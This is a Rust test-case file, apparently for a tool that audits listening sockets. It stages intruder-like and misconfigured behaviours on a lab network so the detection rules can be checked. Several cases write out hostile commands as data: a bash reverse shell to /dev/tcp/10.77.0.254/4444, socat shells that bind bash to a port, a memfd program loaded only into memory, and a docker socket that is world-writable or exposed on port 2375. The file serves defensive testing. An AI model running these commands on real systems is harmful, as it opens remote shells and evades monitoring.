//! Behaviours: what an intruder, a careless setting or a forgotten upgrade leaves to be seen.

use super::case::{Case, Fix, LAN, Ready, Side};
use super::unified_groups;
use crate::lab::Need::{self, Root, Tool};

pub(super) const UNIFIED_GROUPS: Need = Need::Kernel("unified control groups", || unified_groups().is_some());

pub(super) const AS_USER: &str = "useradd --no-create-home --uid 4242 try";

pub(super) const ALL: &[Case] = &[
    Case {
        name: "root_on_a_high_port",
        rule: "root-serves-high-port",
        needs: &[Root, Tool("python3"), Tool("setpriv")],
        severity: "low",
        start: "python3 -m http.server 8000 --directory /srv",
        ready: Ready::Tcp(8000),
        fix: Fix::Again("python3 -m http.server 8000 --directory /srv"),
        ..LAN
    },
    Case {
        name: "user_on_a_low_port",
        rule: "user-serves-low-port",
        needs: &[Root, Tool("nc.openbsd"), Tool("setpriv"), Tool("sysctl")],
        severity: "medium",
        prepare: "sysctl -qw net.ipv4.ip_unprivileged_port_start=80",
        start: "setpriv --reuid=4242 --regid=4242 --clear-groups nc.openbsd -l -p 80",
        ready: Ready::Tcp(80),
        fix: Fix::Refused,
        ..LAN
    },
    Case {
        name: "reverse_shell",
        rule: "shell-on-socket",
        needs: &[Root, Tool("bash"), Tool("nc.openbsd")],
        severity: "critical",
        before: &[(Side::There, "nc.openbsd -l -p 4444", Ready::Tcp(4444))],
        start: "bash -c 'bash -i >& /dev/tcp/10.77.0.254/4444 0>&1'",
        ..LAN
    },
    Case {
        name: "shell_behind_socat",
        rule: "shell-on-socket",
        needs: &[Root, Tool("bash"), Tool("socat"), Tool("nc.openbsd")],
        severity: "critical",
        start: "socat TCP-LISTEN:4445,fork EXEC:bash",
        ready: Ready::Tcp(4445),
        after: &[(Side::There, "nc.openbsd 10.77.0.1 4445", Ready::Asked)],
        ..LAN
    },
    Case {
        name: "bind_shell",
        rule: "bind-shell",
        needs: &[Root, Tool("socat")],
        severity: "critical",
        start: "socat TCP-LISTEN:4445,fork EXEC:/bin/cat",
        ready: Ready::Tcp(4445),
        ..LAN
    },
    Case {
        name: "program_from_memory",
        rule: "memory-only-program",
        needs: &[Root, Tool("python3"), Tool("nc.openbsd")],
        severity: "critical",
        start: "python3 -c \"import os
fd = os.memfd_create('x')
os.write(fd, open('/usr/bin/nc.openbsd', 'rb').read())
os.execv('/proc/self/fd/%d' % fd, ['x', '-l', '-p', '4449'])\"",
        ready: Ready::Tcp(4449),
        ..LAN
    },
    Case {
        name: "deleted_program",
        rule: "deleted-program-listens",
        needs: &[Root, Tool("nc.openbsd")],
        severity: "high",
        prepare: "cp /usr/bin/nc.openbsd /opt/ncx",
        start: "/opt/ncx -l -p 4448",
        ready: Ready::Tcp(4448),
        after: &[(Side::Here, "rm /opt/ncx", Ready::Asked)],
        ..LAN
    },
    Case {
        name: "program_in_a_temporary_folder",
        rule: "listener-from-temporary-folder",
        needs: &[Root, Tool("nc.openbsd")],
        severity: "high",
        prepare: "cp /usr/bin/nc.openbsd /tmp/x",
        start: "/tmp/x -l -p 4450",
        ready: Ready::Tcp(4450),
        ..LAN
    },
    Case {
        name: "netcat_waits",
        rule: "netcat-listener",
        needs: &[Root, Tool("nc.openbsd")],
        severity: "medium",
        start: "nc.openbsd -l -p 4447",
        ready: Ready::Tcp(4447),
        fix: Fix::Option { said: "-s 127.0.0.1", start: "nc.openbsd -l -s 127.0.0.1 -p 4447" },
        ..LAN
    },
    Case {
        name: "unknown_program_on_a_database_port",
        rule: "postgresql-reachable",
        needs: &[Root, Tool("nc.openbsd")],
        severity: "low",
        start: "nc.openbsd -l -k -p 5432",
        ready: Ready::Tcp(5432),
        fix: Fix::Option { said: "127.0.0.1", start: "nc.openbsd -l -k -s 127.0.0.1 -p 5432" },
        ..LAN
    },
    Case {
        name: "client_and_server_at_once",
        rule: "client-and-server",
        needs: &[Root, Tool("python3"), Tool("nc.openbsd")],
        severity: "medium",
        before: &[(Side::There, "nc.openbsd -l -k -p 7071", Ready::Tcp(7071))],
        start: "python3 -c \"import socket, time
s = socket.create_server(('0.0.0.0', 7070))
c = socket.create_connection(('10.77.0.254', 7071))
time.sleep(600)\"",
        ready: Ready::Tcp(7070),
        fix: Fix::Option {
            said: "127.0.0.1",
            start: "python3 -c \"import socket, time
s = socket.create_server(('127.0.0.1', 7070))
c = socket.create_connection(('10.77.0.254', 7071))
time.sleep(600)\"",
        },
        ..LAN
    },
    Case {
        name: "relay",
        rule: "relay",
        needs: &[Root, Tool("socat"), Tool("nc.openbsd")],
        severity: "high",
        before: &[(Side::Here, "nc.openbsd -l -k -s 127.0.0.1 -p 8099", Ready::Tcp(8099))],
        start: "socat TCP-LISTEN:8081,fork TCP:127.0.0.1:8099",
        ready: Ready::Tcp(8081),
        after: &[(Side::There, "nc.openbsd 10.77.0.1 8081", Ready::Asked)],
        ..LAN
    },
    Case {
        name: "wildcard_for_local_clients_only",
        rule: "wildcard-without-need",
        needs: &[Root, Tool("nc.openbsd")],
        severity: "low",
        start: "nc.openbsd -l -k -p 8125",
        ready: Ready::Tcp(8125),
        after: &[(Side::Here, "nc.openbsd 127.0.0.1 8125", Ready::Asked)],
        fix: Fix::Option { said: "127.0.0.1", start: "nc.openbsd -l -k -s 127.0.0.1 -p 8125" },
        ..LAN
    },
    Case {
        name: "packet_socket_of_an_interpreter",
        rule: "unexpected-sniffer",
        needs: &[Root, Tool("python3"), Tool("ss")],
        severity: "high",
        start: "python3 -c \"import socket, time
s = socket.socket(17, 3, socket.htons(3))
time.sleep(600)\"",
        ..LAN
    },
    Case {
        name: "packet_socket_with_a_filter",
        rule: "passive-backdoor",
        needs: &[Root, Tool("python3"), Tool("ss")],
        severity: "critical",
        start: "python3 -c \"import ctypes, socket, struct, time
s = socket.socket(17, 3, socket.htons(3))
program = ctypes.create_string_buffer(struct.pack('HBBI', 6, 0, 0, 65535))
s.setsockopt(socket.SOL_SOCKET, 26, struct.pack('HP', 1, ctypes.addressof(program)))
time.sleep(600)\"",
        ..LAN
    },
    Case {
        name: "tcpdump_runs",
        rule: "capture-running",
        needs: &[Root, Tool("tcpdump")],
        severity: "low",
        start: "tcpdump -i lo -w /dev/null",
        ..LAN
    },
    Case {
        name: "raw_icmp_of_an_interpreter",
        rule: "unexpected-raw-icmp",
        needs: &[Root, Tool("python3")],
        severity: "medium",
        start: "python3 -c \"import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
time.sleep(600)\"",
        ..LAN
    },
    Case {
        name: "udp_port_stolen",
        rule: "udp-port-stolen",
        needs: &[Root, Tool("python3"), Tool("setpriv"), Tool("useradd")],
        severity: "high",
        prepare: AS_USER,
        before: &[(Side::Here, UDP_SERVER, Ready::Udp(5140))],
        start: UDP_THIEF,
        ..LAN
    },
    Case {
        name: "two_users_on_one_port",
        rule: "port-shared-between-users",
        needs: &[Root, Tool("nc.openbsd"), Tool("setpriv"), Tool("useradd")],
        severity: "medium",
        prepare: AS_USER,
        before: &[(Side::Here, "nc.openbsd -l -k -s 127.0.0.1 -p 9000", Ready::Tcp(9000))],
        start: "setpriv --reuid=4242 --regid=4242 --clear-groups nc.openbsd -6 -l -k -s ::1 -p 9000",
        ..LAN
    },
    Case {
        name: "two_programs_on_one_port",
        rule: "port-shared-by-programs",
        needs: &[Root, Tool("socat")],
        severity: "medium",
        prepare: "cp -L /usr/bin/socat /opt/other",
        before: &[(Side::Here, "socat TCP4-LISTEN:8443,reuseport,fork PIPE", Ready::Tcp(8443))],
        start: "/opt/other TCP4-LISTEN:8443,reuseport,fork PIPE",
        ..LAN
    },
    Case {
        name: "unix_socket_for_everybody",
        rule: "unix-socket-open-to-everybody",
        needs: &[Root, Tool("socat")],
        severity: "medium",
        start: "socat UNIX-LISTEN:/run/try.sock,mode=666,fork PIPE",
        ready: Ready::File("/run/try.sock"),
        ..LAN
    },
    Case {
        name: "abstract_socket_of_root",
        rule: "abstract-socket-of-root",
        needs: &[Root, Tool("socat")],
        severity: "medium",
        start: "socat ABSTRACT-LISTEN:demo,fork EXEC:/usr/bin/id",
        fix: Fix::Option {
            said: "UNIX-LISTEN:/run/NAME.sock,mode=660,fork",
            start: "socat UNIX-LISTEN:/run/demo.sock,mode=660,fork EXEC:/usr/bin/id",
        },
        fixed: &[Ready::File("/run/demo.sock")],
        ..LAN
    },
    Case {
        name: "torrents",
        rule: "peer-to-peer-program",
        needs: &[Root, Tool("transmission-daemon")],
        severity: "info",
        start: "transmission-daemon -f -g /tmp/torrents --no-portmap --no-lpd",
        ready: Ready::Tcp(51413),
        fix: Fix::Stopped("--now transmission-daemon"),
        ..LAN
    },
    Case {
        name: "upgraded_and_not_restarted",
        rule: "replaced-program-listens",
        needs: &[Root, Tool("socat"), UNIFIED_GROUPS],
        severity: "info",
        prepare: "cp /usr/bin/socat /opt/served",
        start: "mkdir -p $GROUPS_HERE/system.slice/served.service
            echo $$ > $GROUPS_HERE/system.slice/served.service/cgroup.procs
            exec /opt/served TCP4-LISTEN:8443,reuseaddr,fork PIPE",
        ready: Ready::Tcp(8443),
        // As dpkg does it, and once.
        after: &[(
            Side::Here,
            "test -e /opt/upgraded || { cp /usr/bin/socat /opt/served.new; mv /opt/served.new /opt/served; }
            touch /opt/upgraded; exec sleep 600",
            Ready::File("/opt/upgraded"),
        )],
        fix: Fix::Restarted("served.service"),
        ..LAN
    },
    // A stand-in: only the name, the mode and the user of the file decide.
    Case {
        name: "engine_socket_for_everybody",
        rule: "engine-socket-open",
        needs: &[Root, Tool("socat")],
        severity: "critical",
        start: "socat UNIX-LISTEN:/run/docker.sock,mode=666,fork PIPE",
        ready: Ready::File("/run/docker.sock"),
        ..LAN
    },
    Case {
        name: "engine_socket_on_a_port",
        rule: "engine-socket-bridged",
        needs: &[Root, Tool("socat")],
        severity: "critical",
        start: "socat TCP-LISTEN:2375,fork UNIX-CONNECT:/run/docker.sock",
        ready: Ready::Tcp(2375),
        ..LAN
    },
];

const UDP_SERVER: &str = "python3 -c \"import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', 5140))
time.sleep(600)\"";

const UDP_THIEF: &str = "setpriv --reuid=4242 --regid=4242 --clear-groups python3 -c \"import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', 5140))
time.sleep(600)\"";
